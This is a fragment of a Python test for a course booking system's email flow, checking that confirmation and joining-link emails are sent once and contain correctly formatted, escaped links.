    conf = env.mails(to="sian@example.org", kind="confirmation")[0]
    assert body_parts(conf["msg"]) == ["text/plain", "text/html"]

    env.ctl("elearning-done", rid, now="2026-09-03 10:00")
    env.scan("2026-09-20 11:00")        # two days before the new start
    join = env.mails(to="sian@example.org", kind="joining_link")
    assert len(join) == 1
    rep = check_message(join[0]["raw"], to_name=NAME)
    assert not rep["errors"], rep["errors"]
    text, html = texts(rep)
    assert JOIN in text and html_escape(JOIN) in html
    assert_real_links(html, "joining_link")
